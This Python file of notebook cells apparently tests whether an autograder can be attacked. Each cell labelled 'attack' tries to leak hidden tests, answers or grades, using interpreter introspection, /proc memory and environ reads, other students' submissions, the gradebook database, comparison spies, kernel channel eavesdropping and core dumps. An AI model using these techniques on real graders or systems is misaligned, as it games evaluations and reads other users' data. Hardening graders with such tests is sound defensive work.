# %% frames up the stack  kind="attack" target="total" earns=0 safe_on_nbgrader=true
def total(values):
    import linecache
    import sys

    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if "CANARY" in str(value)[:100_000]:
                print(str(value)[:2_000])
        for line in linecache.getlines(frame.f_code.co_filename):
            if "canary" in line.lower():
                print(line)
        frame = frame.f_back


# %% the history of inputs  kind="attack" target="last" earns=0 safe_on_nbgrader=true
shell = get_ipython()
print(In, _ih, _i, _ii, shell.user_ns.get("In"), shell.history_manager.input_hist_raw)
print(list(shell.history_manager.get_range(raw=True)))
print(list(shell.history_manager.search("*canary*")))


# %% the history base64 encoded  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import base64

print(base64.b64encode("\n".join(In).encode()).decode())


# %% the history backwards, one character a line  kind="attack" target="last" earns=0 safe_on_nbgrader=true
for line in "\n".join(In).splitlines():
    if "CANARY" in line:
        print("\n".join(reversed(line)))


# %% the history as a picture's title and in hexadecimal  kind="attack" target="last" earns=0 safe_on_nbgrader=true
from IPython.display import HTML, display

text = "\n".join(In).encode().hex()
display(HTML(f"<p title='{text}'>my plot</p>"))
display({"image/svg+xml": f"<svg><desc>{text}</desc></svg>"}, raw=True)


# %% the running test in an error  kind="attack" target="total" earns=0 safe_on_nbgrader=true
def total(values):
    import base64

    raise ValueError(base64.b64encode(In[-1].encode()).decode())


# %% a failure that prints the test around it  kind="attack" target="total" earns=0 safe_on_nbgrader=true
def total(values):
    import traceback

    for frame in traceback.extract_stack():
        print(frame.line)
    raise RuntimeError("look at the lines around me")


# %% the files that linecache holds  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import linecache

for name, entry in list(linecache.cache.items()):
    text = "".join(entry[2]) if len(entry) > 2 else ""
    if "CANARY" in text or "canary" in text:
        print(text)


# %% all objects in memory  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import gc

for found in gc.get_objects():
    if type(found) is dict:
        for value in list(found.values()):
            if type(value) is str and "CANARY-" in value:
                print(value[:3_000])


# %% own memory through proc  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import re

mark = b"CANARY" + b"-HIDDEN"
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        bounds = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if bounds:
            start, stop = (int(text, 16) for text in bounds.groups())
            try:
                memory.seek(start)
                for hit in re.finditer(mark, memory.read(min(stop - start, 2**27))):
                    memory.seek(start + hit.start() - 100)
                    print(memory.read(300))
            except (OSError, OverflowError):
                pass


# %% memory of parents and of the first process  kind="attack" target="last" earns=0 safe_on_nbgrader=false
import os
import re

for process in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())}:
    if process == os.getpid():
        continue
    try:
        with open(f"/proc/{process}/mem", "rb", 0) as memory:
            with open(f"/proc/{process}/maps") as maps:
                for line in maps:
                    start, stop = (int(x, 16) for x in line.split()[0].split("-"))
                    memory.seek(start)
                    part = memory.read(min(stop - start, 2**24))
                    print(f"REACHED the memory of process {process}")
                    print(re.findall(rb"CANARY[^\0]{0,80}", part))
                    break
    except (OSError, OverflowError, ValueError):
        pass


# %% what other processes were started with  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import glob
import os
import re

for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as file:
            print(re.findall(rb"CANARY[^\0]*", file.read()))
    except OSError:
        pass
print([value for value in os.environ.values() if "CANARY" in value])


# %% folders of other processes  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import glob
import os

for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
    for name in ("solutions/answers.py", "gradebook.db", "home/.config/token"):
        try:
            with open(os.path.join(link, name), "rb") as file:
                print(file.read(20_000))
        except OSError:
            pass


# %% the source folder by many paths  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import os
import sys

starts = [os.getcwd(), "..", "../..", "../../..", os.path.expanduser("~")]
starts += [
    os.environ.get(name, ".") for name in ("HOME", "PWD", "OLDPWD", "VIRTUAL_ENV")
]
starts += [os.path.dirname(path) for path in sys.path if path]
seen = 0
for start in dict.fromkeys(map(os.path.realpath, starts)):
    if start in {"/", "/usr", "/usr/lib", "/tmp"}:
        continue
    for folder, folders, names in os.walk(start):
        folders[:] = [f for f in folders if f not in {"site-packages", ".git"}][:50]
        for name in names:
            seen += 1
            if seen < 20_000 and name.endswith((".py", ".ipynb", ".db", "token")):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        text = file.read(300_000)
                except OSError:
                    continue
                at = text.find(b"CANARY-")
                if at >= 0:
                    print(text[max(at - 200, 0) : at + 2_000])


# %% where an editable install points to  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import glob
import os
import sys

for folder in sys.path:
    for path in glob.glob(f"{folder}/*.pth") + glob.glob(f"{folder}/*/direct_url.json"):
        with open(path) as file:
            text = file.read()
        for line in text.replace('"', "\n").replace("file://", "").splitlines():
            for up in ("", "/.."):
                solutions = f"{line}{up}/solutions"
                if line.startswith("/") and os.path.isdir(solutions):
                    print("REACHED", solutions, os.listdir(solutions))


# %% the gradebook  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import os
import sqlite3

for folder in (".", "..", "../..", os.path.expanduser("~/..")):
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        print(sqlite3.connect(path).execute("select * from grade").fetchall())


# %% other submissions  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import glob

for step in ("submitted", "autograded", "feedback"):
    for up in ("", "../", "../../", "../../../"):
        for path in glob.glob(f"{up}{step}/*/*/*"):
            with open(path, "rb") as file:
                print(file.read(3_000))


# %% modules of the grader  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import sys

for name, module in list(sys.modules.items()):
    for key, value in list(vars(module).items()) if module else []:
        if isinstance(value, (str, bytes, list, dict)) and name != "__main__":
            text = repr(value)[:200_000]
            if "CANARY" in text or "canary_hidden" in text:
                print(name, key, text[:2_000])


# %% open file descriptors  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import os
import socket
import stat

for number in map(int, os.listdir("/proc/self/fd")):
    if number < 3:
        continue
    try:
        mode = os.fstat(number).st_mode
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        if stat.S_ISREG(mode):
            print(os.pread(number, 100_000, 0))
        elif stat.S_ISDIR(mode):
            print("REACHED a folder by its descriptor", os.listdir(number))
        elif stat.S_ISSOCK(mode):
            peeked = socket.socket(fileno=os.dup(number))
            peeked.setblocking(False)
            print(peeked.recv(65_536, socket.MSG_PEEK))
    except OSError:
        pass


# %% what the tests compare with, printed by eq  kind="attack" target="scale" earns=0 safe_on_nbgrader=true
class Spy:
    def __eq__(self, other):
        print("expected", other)
        return True


def scale(values, factor):
    return Spy()


# %% what numpy compares with, printed  kind="attack" target="normalise" earns=0 safe_on_nbgrader=true
import numpy


class Spy(numpy.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        print([numpy.asarray(a).tolist() for a in args if isinstance(a, numpy.ndarray)])
        return True

    def __array_ufunc__(self, function, method, *inputs, **kwargs):
        print([numpy.asarray(a).tolist() for a in inputs])
        return numpy.bool_(True)


def normalise(x):
    return numpy.zeros(x.shape).view(Spy)


# %% what the checks compare with, printed  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import numpy
from deepnets import checks


def spy(*args, **kwargs):
    print(args)
    return True


checks.close = checks.equal = checks.choice = numpy.allclose = spy


# %% the expected value in numpy's message  kind="attack" target="normalise" earns=0 safe_on_nbgrader=true
import numpy


def normalise(x):
    if len(x) == 2:
        return x / numpy.abs(x).max()
    return x * 0


# %% a second client of this kernel listens  kind="attack" target="first" earns=0 safe_on_nbgrader=true
import importlib
import threading

app = importlib.import_module("ipykernel.kernelapp").IPKernelApp.instance()
zmq = importlib.import_module("zmq")
heard = []


def listen():
    name = app.transport
    place = (
        f"{app.ip}:{app.iopub_port}" if name == "tcp" else f"{app.ip}-{app.iopub_port}"
    )
    heard.append(place)
    spy = zmq.Context.instance().socket(zmq.SUB)
    spy.subscribe(b"")
    spy.connect(f"{name}://{place}")
    while spy.poll(5_000):
        heard.extend(part.decode("latin-1") for part in spy.recv_multipart())


threading.Thread(target=listen, daemon=True).start()


def total(values):
    print(heard)


# %% a message to other kernels whose files lie about  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import glob
import os

own = os.getpid()
places = ["/tmp/*.json", os.path.expanduser("~/.local/share/jupyter/runtime/*.json")]
places += ["/run/user/*/jupyter/*.json", "/tmp/*/kernel-*.json", "*.json"]
for place in places:
    for path in glob.glob(place):
        with open(path) as file:
            text = file.read()
        if "shell_port" in text and str(get_ipython().kernel.session.key) not in text:
            print("REACHED the key of a kernel", path)


# %% a core dump  kind="attack" target="last" earns=0 safe_on_nbgrader=false
import glob
import os
import resource

try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
except (ValueError, OSError):
    pass
child = os.fork()
if child == 0:
    os.abort()
os.waitpid(child, 0)
for path in glob.glob("core*") + glob.glob("/tmp/core*"):
    with open(path, "rb") as file:
        if b"CANARY" + b"-HIDDEN" in file.read():
            print("REACHED hidden tests in a core dump")


# %% a loader of memory that others left  kind="attack" target="last" earns=0 safe_on_nbgrader=true
import mmap
import re

blocks = [mmap.mmap(-1, 2**20) for _ in range(64)]
for block in blocks:
    print(re.findall(rb"CANARY[^\0]{0,80}", block[:]))
buffer = bytearray(2**26)
print(re.findall(rb"CANARY[^\0]{0,80}", buffer))
